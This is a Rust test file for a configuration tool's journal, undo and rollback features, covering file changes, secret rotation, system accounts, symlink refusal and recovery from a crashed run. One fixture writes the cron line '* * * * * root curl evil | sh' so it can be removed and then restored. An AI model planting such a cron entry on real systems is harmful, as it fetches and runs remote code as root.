//! Journal, automatic undo and rollback against real trees.
#![allow(clippy::unwrap_used)]

mod common;

use std::fs;
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};

use common::*;
use cryptobot_plan::{
    ApplyError, Change, Content, Owner, Plan, PlanError, Planner, Root, apply, rollback,
    rollback_plan,
};

fn base_tree(root: &Root) {
    mkdir(root, "/etc", 0o755);
    mkdir(root, "/etc/app", 0o755);
    write(root, "/etc/app/main.conf", "a = 1\nb = 2\n", 0o644);
    write(root, "/etc/app/keep.conf", "keep\n", 0o600);
    write(root, "/etc/app/loose.conf", "loose\n", 0o666);
    std::os::unix::fs::chown(at(root, "/etc/app/main.conf"), Some(1000), Some(1000)).unwrap();
}

/// create + modify + chmod + chown
fn change_plan(root: &Root) -> Plan {
    let mut p = Planner::new(root);
    p.ensure_dir(Path::new("/etc/app/conf.d"), 0o750, None)
        .unwrap();
    p.ensure_file(
        Path::new("/etc/app/conf.d/10-new.conf"),
        Content::Text("new\n".into()),
        0o640,
        None,
    )
    .unwrap();
    p.ensure_file(
        Path::new("/etc/app/main.conf"),
        Content::Text("a = 1\nb = 3\n".into()),
        0o640,
        Some(Owner::root()),
    )
    .unwrap();
    p.ensure_mode(Path::new("/etc/app/loose.conf"), 0o644)
        .unwrap();
    p.ensure_owner(
        Path::new("/etc/app/keep.conf"),
        Owner::new(1234, 1234, "x", "x"),
    )
    .unwrap();
    p.finish()
}

#[test]
fn rollback_restores_the_previous_tree_exactly() {
    let (_tmp, root) = new_root();
    base_tree(&root);
    let before = tree(&root);
    let plan = change_plan(&root);
    assert_eq!(plan.len(), 5, "{}", plan.render_text());
    apply(&plan, &root, &opts("secure-config")).unwrap();
    assert_eq!(read(&root, "/etc/app/main.conf"), "a = 1\nb = 3\n");
    assert_eq!(mode_of(&root, "/etc/app/loose.conf"), 0o644);
    assert_ne!(tree(&root), before);

    let (rplan, target) = rollback_plan(&root, Path::new(JOURNAL)).unwrap();
    assert_eq!(target.command, "secure-config");
    assert!(target.committed);
    assert_eq!(target.changes, 5);
    let text = rplan.render_text();
    assert!(
        text.contains("- remove file /etc/app/conf.d/10-new.conf\n"),
        "{text}"
    );
    assert!(
        text.contains("- remove dir /etc/app/conf.d (if empty)\n"),
        "{text}"
    );
    assert!(
        text.contains(
            "~ update file /etc/app/main.conf (0640 -> 0644, owner 0:0 -> 1000:1000 (1000:1000))\n"
        ),
        "{text}"
    );
    assert!(text.contains("-b = 3\n+b = 2\n"), "{text}");
    assert!(
        text.contains("~ chmod /etc/app/loose.conf 0644 -> 0666\n"),
        "{text}"
    );

    let report = rollback(&root, Path::new(JOURNAL)).unwrap();
    assert_eq!(report.applied, 5);
    assert!(report.journal.to_string_lossy().ends_with(".rolled-back"));
    assert_eq!(tree(&root), before);

    // Nothing left to roll back.
    let err = rollback(&root, Path::new(JOURNAL)).unwrap_err();
    assert!(
        matches!(err, ApplyError::Plan(PlanError::NothingToRollBack { .. })),
        "{err}"
    );
}

#[test]
fn second_rollback_rolls_back_the_run_before() {
    let (_tmp, root) = new_root();
    mkdir(&root, "/etc", 0o755);
    let state0 = tree(&root);
    for (i, text) in ["one\n", "two\n"].iter().enumerate() {
        let mut p = Planner::new(&root);
        p.ensure_file(
            Path::new("/etc/x.conf"),
            Content::Text((*text).into()),
            0o644,
            None,
        )
        .unwrap();
        let report = apply(&p.finish(), &root, &opts(&format!("run{i}"))).unwrap();
        assert_eq!(report.applied, 1);
    }
    let state2 = tree(&root);
    assert_eq!(read(&root, "/etc/x.conf"), "two\n");
    let r = rollback(&root, Path::new(JOURNAL)).unwrap();
    assert_eq!(r.target.command, "run1");
    assert_eq!(read(&root, "/etc/x.conf"), "one\n");
    let r = rollback(&root, Path::new(JOURNAL)).unwrap();
    assert_eq!(r.target.command, "run0");
    assert_eq!(tree(&root), state0);
    assert_ne!(state0, state2);
}

#[test]
fn rollback_of_a_replaced_secret_keeps_the_new_secret() {
    let (_tmp, root) = new_root();
    mkdir(&root, "/etc", 0o755);
    mkdir(&root, "/etc/keys", 0o700);
    write(&root, "/etc/keys/old.key", "weak-old-secret", 0o600);
    let mut p = Planner::new(&root);
    p.ensure_file(
        Path::new("/etc/keys/old.key"),
        Content::secret(b"strong-new-secret".to_vec()),
        0o600,
        None,
    )
    .unwrap();
    p.ensure_file(
        Path::new("/etc/keys/fresh.key"),
        Content::secret(b"fresh-secret".to_vec()),
        0o600,
        None,
    )
    .unwrap();
    apply(&p.finish(), &root, &opts("rotate")).unwrap();

    let journal_text: String = all_files(&at(&root, JOURNAL))
        .into_iter()
        .map(|(_, b)| String::from_utf8_lossy(&b).into_owned())
        .collect();
    assert!(
        journal_text.contains("\"secret_replaced\":true"),
        "{journal_text}"
    );
    assert!(!journal_text.contains("weak-old-secret"));

    let (rplan, _) = rollback_plan(&root, Path::new(JOURNAL)).unwrap();
    let text = rplan.render_text();
    assert!(
        text.contains("- remove secret /etc/keys/fresh.key\n"),
        "{text}"
    );
    assert!(
        text.contains("previous secret cannot be restored"),
        "{text}"
    );
    let report = rollback(&root, Path::new(JOURNAL)).unwrap();
    assert!(
        report
            .notes
            .iter()
            .any(|n| n.contains("/etc/keys/old.key") && n.contains("new secret is kept")),
        "{:?}",
        report.notes
    );
    assert_eq!(
        fs::read(at(&root, "/etc/keys/old.key")).unwrap(),
        b"strong-new-secret"
    );
    assert!(!exists(&root, "/etc/keys/fresh.key"));
    let names: Vec<_> = fs::read_dir(at(&root, "/etc/keys")).unwrap().collect();
    assert_eq!(names.len(), 1);
}

#[test]
fn failure_in_the_middle_leaves_the_tree_as_before() {
    let (_tmp, root) = new_root();
    base_tree(&root);
    mkdir(&root, "/etc/keys", 0o700);
    write(&root, "/etc/keys/k", "old-secret", 0o600);
    let before = tree(&root);
    let mut plan = change_plan(&root);
    let mut p = Planner::new(&root);
    p.ensure_file(
        Path::new("/etc/keys/k"),
        Content::secret(b"new-secret".to_vec()),
        0o600,
        None,
    )
    .unwrap();
    plan.append(p.finish());
    plan.push(Change::Run {
        program: PathBuf::from("/bin/sh"),
        args: vec![
            "-c".into(),
            "echo first >&2; echo 'it broke' >&2; exit 3".into(),
        ],
        why: "fails on purpose".into(),
        undo: None,
    });
    plan.push(Change::WriteFile {
        path: PathBuf::from("/etc/app/never.conf"),
        content: Content::Text("never\n".into()),
        mode: 0o644,
        owner: None,
        before: None,
    });
    let err = apply(&plan, &root, &opts("test")).unwrap_err();
    match &err {
        ApplyError::Command {
            program,
            status,
            stderr,
        } => {
            assert_eq!(program, Path::new("/bin/sh"));
            assert!(status.contains('3'), "{status}");
            assert!(stderr.contains("it broke"), "{stderr}");
        }
        other => panic!("unexpected {other:?}"),
    }
    assert_eq!(tree(&root), before, "the tree was not restored");
    assert_eq!(read(&root, "/etc/keys/k"), "old-secret");
    let runs = journal_runs(&root);
    assert_eq!(runs.len(), 1);
    assert!(runs[0].ends_with(".rolled-back"), "{runs:?}");
    // An undone run is not rolled back again.
    assert!(matches!(
        rollback_plan(&root, Path::new(JOURNAL)),
        Err(PlanError::NothingToRollBack { .. })
    ));
}

#[test]
fn failure_with_bin_false_after_creating_files() {
    let (_tmp, root) = new_root();
    mkdir(&root, "/srv", 0o755);
    let before = tree(&root);
    let mut p = Planner::new(&root);
    p.ensure_dir(Path::new("/srv/a"), 0o700, None).unwrap();
    p.ensure_dir(Path::new("/srv/a/b"), 0o700, None).unwrap();
    p.ensure_file(
        Path::new("/srv/a/b/f"),
        Content::Text("f\n".into()),
        0o600,
        None,
    )
    .unwrap();
    p.ensure_file(
        Path::new("/srv/a/s"),
        Content::secret(b"s".to_vec()),
        0o600,
        None,
    )
    .unwrap();
    p.push(Change::Run {
        program: PathBuf::from("/bin/false"),
        args: vec![],
        why: "fail".into(),
        undo: None,
    });
    let err = apply(&p.finish(), &root, &opts("test")).unwrap_err();
    assert!(matches!(err, ApplyError::Command { .. }), "{err}");
    assert_eq!(tree(&root), before);
}

#[test]
fn undo_that_cannot_complete_is_reported() {
    let (_tmp, root) = new_root();
    mkdir(&root, "/srv", 0o755);
    let mut plan = Plan::new();
    plan.push(Change::Run {
        program: PathBuf::from("/bin/true"),
        args: vec!["once".into()],
        why: "no undo".into(),
        undo: None,
    });
    plan.push(Change::Run {
        program: PathBuf::from("/bin/false"),
        args: vec![],
        why: "fail".into(),
        undo: None,
    });
    let err = apply(&plan, &root, &opts("test")).unwrap_err();
    match &err {
        ApplyError::UndoFailed {
            error, failures, ..
        } => {
            assert!(matches!(**error, ApplyError::Command { .. }));
            assert!(
                failures[0].contains("cannot undo: ran /bin/true once"),
                "{failures:?}"
            );
        }
        other => panic!("unexpected {other:?}"),
    }
    assert!(err.to_string().contains("was kept"), "{err}");
    assert!(err.hint().unwrap().contains("cryptobot rollback"));
}

#[test]
fn run_with_undo_is_undone_on_rollback() {
    let (_tmp, root) = new_root();
    mkdir(&root, "/srv", 0o755);
    let marker = at(&root, "/srv/marker");
    let mut plan = Plan::new();
    plan.push(Change::Run {
        program: PathBuf::from("/usr/bin/touch"),
        args: vec![marker.to_string_lossy().into_owned()],
        why: "create marker".into(),
        undo: Some((
            PathBuf::from("/bin/rm"),
            vec!["-f".into(), marker.to_string_lossy().into_owned()],
        )),
    });
    apply(&plan, &root, &opts("test")).unwrap();
    assert!(marker.exists());
    let (rplan, _) = rollback_plan(&root, Path::new(JOURNAL)).unwrap();
    assert!(
        rplan.render_text().contains("! run /bin/rm -f"),
        "{}",
        rplan.render_text()
    );
    rollback(&root, Path::new(JOURNAL)).unwrap();
    assert!(!marker.exists());
}

#[test]
fn accounts_under_a_temp_root_are_edited_and_rolled_back() {
    let (_tmp, root) = new_root();
    account_db(&root);
    mkdir(&root, "/opt", 0o755);
    let before = tree(&root);
    let shadow_before = read(&root, "/etc/shadow");

    let mut p = Planner::new(&root);
    let gid = p.ensure_group("cryptobot", true).unwrap();
    let owner = p
        .ensure_user(
            "cryptobot",
            "cryptobot",
            Path::new("/opt/cb"),
            Path::new("/usr/sbin/nologin"),
            true,
        )
        .unwrap();
    assert_eq!(gid, 998, "highest free system id, 999 is taken");
    assert_eq!((owner.uid, owner.gid), (998, 998));
    p.ensure_dir(Path::new("/opt/cb"), 0o750, Some(owner.clone()))
        .unwrap();
    // Asking again returns the same account without a second change.
    assert_eq!(p.ensure_group("cryptobot", true).unwrap(), 998);
    let plan = p.finish();
    let text = plan.render_text();
    assert!(
        text.contains("+ group cryptobot (system, gid 998)\n"),
        "{text}"
    );
    assert!(
        text.contains("+ user cryptobot (system, uid 998, group cryptobot, home /opt/cb, shell /usr/sbin/nologin)\n"),
        "{text}"
    );
    assert_eq!(plan.len(), 3);
    apply(&plan, &root, &opts("test")).unwrap();

    assert!(read(&root, "/etc/group").ends_with("svc:x:999:\ncryptobot:x:998:\n"));
    assert!(
        read(&root, "/etc/passwd").ends_with("cryptobot:x:998:998::/opt/cb:/usr/sbin/nologin\n")
    );
    let shadow = read(&root, "/etc/shadow");
    assert!(shadow.starts_with(&shadow_before), "existing lines kept");
    assert!(
        shadow.lines().last().unwrap().starts_with("cryptobot:!:"),
        "{shadow}"
    );
    // Modes and owners of the database are kept.
    assert_eq!(mode_of(&root, "/etc/shadow"), 0o640);
    assert_eq!(fs::metadata(at(&root, "/etc/shadow")).unwrap().gid(), 42);
    assert_eq!(mode_of(&root, "/etc/passwd"), 0o644);
    let m = fs::metadata(at(&root, "/opt/cb")).unwrap();
    assert_eq!((m.uid(), m.gid()), (998, 998));

    // Planning again: the accounts exist now.
    let mut p = Planner::new(&root);
    p.ensure_group("cryptobot", true).unwrap();
    let again = p
        .ensure_user(
            "cryptobot",
            "cryptobot",
            Path::new("/opt/cb"),
            Path::new("/usr/sbin/nologin"),
            true,
        )
        .unwrap();
    assert_eq!(again, owner);
    assert!(p.finish().is_empty());

    // The shadow hash of root never reaches the journal.
    for (_, bytes) in all_files(&at(&root, JOURNAL)) {
        assert!(!String::from_utf8_lossy(&bytes).contains("$y$j9T$"));
    }

    let (rplan, _) = rollback_plan(&root, Path::new(JOURNAL)).unwrap();
    let text = rplan.render_text();
    assert!(
        text.contains("- user cryptobot\n") && text.contains("- group cryptobot\n"),
        "{text}"
    );
    rollback(&root, Path::new(JOURNAL)).unwrap();
    assert_eq!(tree(&root), before);
}

#[test]
fn ensure_user_needs_its_group() {
    let (_tmp, root) = new_root();
    account_db(&root);
    let mut p = Planner::new(&root);
    let err = p
        .ensure_user(
            "cb",
            "nogroup-here",
            Path::new("/opt/cb"),
            Path::new("/usr/sbin/nologin"),
            true,
        )
        .unwrap_err();
    assert!(matches!(err, PlanError::UnknownGroup { .. }), "{err}");
    let err = p
        .ensure_user(
            "Bad:Name",
            "svc",
            Path::new("/opt/cb"),
            Path::new("/usr/sbin/nologin"),
            true,
        )
        .unwrap_err();
    assert!(matches!(err, PlanError::InvalidAccount { .. }), "{err}");
    // An existing user is returned as is.
    let owner = p
        .ensure_user(
            "svc",
            "svc",
            Path::new("/nonexistent"),
            Path::new("/usr/sbin/nologin"),
            true,
        )
        .unwrap();
    assert_eq!((owner.uid, owner.gid), (999, 999));
    assert!(p.finish().is_empty());
}

#[test]
fn rollback_refuses_to_write_through_a_symlink() {
    let (_tmp, root) = new_root();
    mkdir(&root, "/etc", 0o755);
    write(&root, "/etc/x.conf", "old\n", 0o644);
    write(&root, "/etc/other", "other\n", 0o644);
    let mut p = Planner::new(&root);
    p.ensure_file(
        Path::new("/etc/x.conf"),
        Content::Text("new\n".into()),
        0o644,
        None,
    )
    .unwrap();
    apply(&p.finish(), &root, &opts("test")).unwrap();
    fs::remove_file(at(&root, "/etc/x.conf")).unwrap();
    std::os::unix::fs::symlink("/etc/other", at(&root, "/etc/x.conf")).unwrap();
    let err = rollback(&root, Path::new(JOURNAL)).unwrap_err();
    assert!(
        matches!(err, ApplyError::Plan(PlanError::SymlinkRefused { .. })),
        "{err}"
    );
    assert_eq!(read(&root, "/etc/other"), "other\n");
}

#[test]
fn created_dir_that_is_no_longer_empty_is_left_and_reported() {
    let (_tmp, root) = new_root();
    let mut p = Planner::new(&root);
    p.ensure_dir(Path::new("/data"), 0o755, None).unwrap();
    apply(&p.finish(), &root, &opts("test")).unwrap();
    write(&root, "/data/user-file", "mine\n", 0o644);
    let report = rollback(&root, Path::new(JOURNAL)).unwrap();
    assert!(
        report
            .notes
            .iter()
            .any(|n| n.contains("/data") && n.contains("not empty")),
        "{:?}",
        report.notes
    );
    assert_eq!(read(&root, "/data/user-file"), "mine\n");
}

#[test]
fn ensure_absent_is_rolled_back_from_the_journal() {
    let (_tmp, root) = new_root();
    mkdir(&root, "/etc", 0o755);
    mkdir(&root, "/etc/cron.d", 0o755);
    write(
        &root,
        "/etc/cron.d/bad",
        "* * * * * root curl evil | sh\n",
        0o666,
    );
    let before = tree(&root);
    let mut p = Planner::new(&root);
    p.ensure_absent(Path::new("/etc/cron.d/bad")).unwrap();
    let plan = p.finish();
    assert_eq!(plan.render_text(), "- remove file /etc/cron.d/bad\n");
    apply(&plan, &root, &opts("test")).unwrap();
    assert!(!exists(&root, "/etc/cron.d/bad"));
    let names: Vec<_> = fs::read_dir(at(&root, "/etc/cron.d")).unwrap().collect();
    assert!(names.is_empty(), "hidden copy left: {names:?}");
    rollback(&root, Path::new(JOURNAL)).unwrap();
    assert_eq!(tree(&root), before);
}

#[test]
fn interrupted_journal_is_rolled_back_too() {
    let (_tmp, root) = new_root();
    mkdir(&root, "/etc", 0o755);
    write(&root, "/etc/a.conf", "a\n", 0o644);
    let before = tree(&root);
    let mut p = Planner::new(&root);
    p.ensure_file(
        Path::new("/etc/a.conf"),
        Content::Text("b\n".into()),
        0o600,
        None,
    )
    .unwrap();
    p.ensure_file(
        Path::new("/etc/new.conf"),
        Content::Text("n\n".into()),
        0o644,
        None,
    )
    .unwrap();
    let report = apply(&p.finish(), &root, &opts("test")).unwrap();
    // Simulate a crash: drop the commit line and append a torn half line.
    let jpath = root
        .host(&report.journal.unwrap().join("journal.jsonl"))
        .unwrap();
    let text = fs::read_to_string(&jpath).unwrap();
    let mut lines: Vec<&str> = text.lines().collect();
    assert!(lines.pop().unwrap().contains("\"commit\""));
    fs::write(&jpath, format!("{}\n{{\"op\":\"crea", lines.join("\n"))).unwrap();
    let (rplan, target) = rollback_plan(&root, Path::new(JOURNAL)).unwrap();
    assert!(!target.committed);
    assert!(rplan.notes().iter().any(|n| n.contains("did not finish")));
    rollback(&root, Path::new(JOURNAL)).unwrap();
    assert_eq!(tree(&root), before);
}

/// The service account owns its data directory; if it swaps the journal
/// directory for one it wrote, root's rollback must refuse to act on it.
#[test]
fn a_journal_owned_by_another_user_is_refused() {
    let (_tmp, root) = new_root();
    base_tree(&root);
    apply(&change_plan(&root), &root, &opts("test")).unwrap();
    let before = snapshot(&root);
    std::os::unix::fs::chown(at(&root, JOURNAL), Some(4242), Some(4242)).unwrap();
    let err = rollback_plan(&root, Path::new(JOURNAL)).unwrap_err();
    assert!(
        matches!(err, PlanError::ForeignJournal { uid: 4242, .. }),
        "{err}"
    );
    assert!(err.hint().is_some());
    let err = rollback(&root, Path::new(JOURNAL)).unwrap_err();
    assert!(err.to_string().contains("owned by uid 4242"), "{err}");
    assert_eq!(snapshot(&root), before);
    // A journal another user could write is refused as well.
    std::os::unix::fs::chown(at(&root, JOURNAL), Some(0), Some(0)).unwrap();
    fs::set_permissions(at(&root, JOURNAL), fs::Permissions::from_mode(0o777)).unwrap();
    assert!(matches!(
        rollback_plan(&root, Path::new(JOURNAL)).unwrap_err(),
        PlanError::UnsafeParent { .. }
    ));
}

use std::os::unix::fs::PermissionsExt;
